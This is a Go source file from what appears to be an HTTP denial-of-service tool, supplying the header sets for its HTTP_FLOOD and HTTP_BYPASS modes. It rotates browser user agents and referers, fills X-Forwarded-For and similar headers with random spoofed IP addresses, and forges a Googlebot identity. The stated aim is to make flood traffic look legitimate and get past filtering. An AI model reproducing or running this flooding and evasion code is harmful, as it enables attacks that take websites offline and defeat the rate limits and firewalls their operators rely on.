package httpmethods

import (
	"github.com/Gh05t666nero/nrtf/internal/util"
)

var userAgents = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/92.0.4515.131 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.1.2 Safari/605.1.15",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 Edg/91.0.864.59",
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/92.0.4515.107 Safari/537.36",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 14_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0 Mobile/15E148 Safari/604.1",
}

var referers = []string{
	"https://www.google.com/",
	"https://www.bing.com/",
	"https://www.yahoo.com/",
	"https://www.facebook.com/",
	"https://www.twitter.com/",
	"https://www.instagram.com/",
	"https://www.reddit.com/",
}

// floodHeaders is the browser-looking header set used by HTTP_FLOOD. The
// User-Agent and Referer are rerandomized per request.
func floodHeaders(target string) map[string]string {
	return map[string]string{
		"User-Agent":                util.Pick(userAgents),
		"Accept":                    "text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8",
		"Accept-Language":           "en-US,en;q=0.5",
		"Accept-Encoding":           "gzip, deflate",
		"Connection":                "keep-alive",
		"Upgrade-Insecure-Requests": "1",
		"Cache-Control":             "max-age=0",
		"Referer":                   util.Pick(referers) + target,
	}
}

// ipHeaders are the synthetic client-IP headers HTTP_BYPASS rerandomizes on
// every request.
var ipHeaders = []string{"X-Forwarded-For", "X-Client-IP", "X-Remote-IP", "X-Remote-Addr", "X-Real-IP"}

// bypassHeaderSets builds the three rotations HTTP_BYPASS cycles through: a
// padded browser set with spoofed client-IP headers, a crawler set and a
// mobile Safari set.
func bypassHeaderSets(host, target string) []map[string]string {
	return []map[string]string{
		{
			"User-Agent":                util.Pick(userAgents),
			"Accept":                    "text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8",
			"Accept-Language":           "en-US,en;q=0.5",
			"Accept-Encoding":           "gzip, deflate, br",
			"Connection":                "keep-alive",
			"Upgrade-Insecure-Requests": "1",
			"Cache-Control":             "max-age=0",
			"X-Forwarded-For":           util.RandomIPv4(),
			"X-Forwarded-Host":          host,
			"X-Forwarded-Proto":         "http",
			"X-Client-IP":               util.RandomIPv4(),
			"X-Remote-IP":               util.RandomIPv4(),
			"X-Remote-Addr":             util.RandomIPv4(),
			"X-Real-IP":                 util.RandomIPv4(),
			"Referer":                   util.Pick(referers) + target,
		},
		{
			"User-Agent":      "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
			"Accept":          "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
			"Accept-Language": "en-US,en;q=0.5",
			"Accept-Encoding": "gzip, deflate",
			"Connection":      "keep-alive",
			"From":            "googlebot(at)googlebot.com",
		},
		{
			"User-Agent":                "Mozilla/5.0 (iPhone; CPU iPhone OS 14_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0 Mobile/15E148 Safari/604.1",
			"Accept":                    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
			"Accept-Language":           "en-US,en;q=0.9",
			"Accept-Encoding":           "gzip, deflate, br",
			"Connection":                "keep-alive",
			"Upgrade-Insecure-Requests": "1",
			"Cache-Control":             "no-cache",
			"Pragma":                    "no-cache",
		},
	}
}

// approxRequestSize estimates the bytes a request put on the wire from its
// header set.
func approxRequestSize(headers map[string]string) int {
	n := 100
	for k, v := range headers {
		n += len(k) + len(v) + 4
	}
	return n
}
